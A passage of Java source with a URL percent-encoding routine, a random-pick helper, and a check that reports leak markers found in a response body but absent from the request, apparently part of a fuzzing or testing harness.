            if (c < 128 && (Character.isLetterOrDigit(c) || "-._~".indexOf(c) >= 0)) {
                sb.append(c);
            } else {
                sb.append('%').append(String.format("%02X", b & 0xff));
            }
        }
        return sb.toString();
    }

    static <T> T pick(Random rnd, List<T> list) {
        return list.get(rnd.nextInt(list.size()));
    }

    static void forEachLeak(String body, String request, Consumer<String> leak) {
        for (String marker : LEAKS) {
            if (body.contains(marker) && !request.contains(marker)) {
                leak.accept(marker);
            }
        }
    }
}
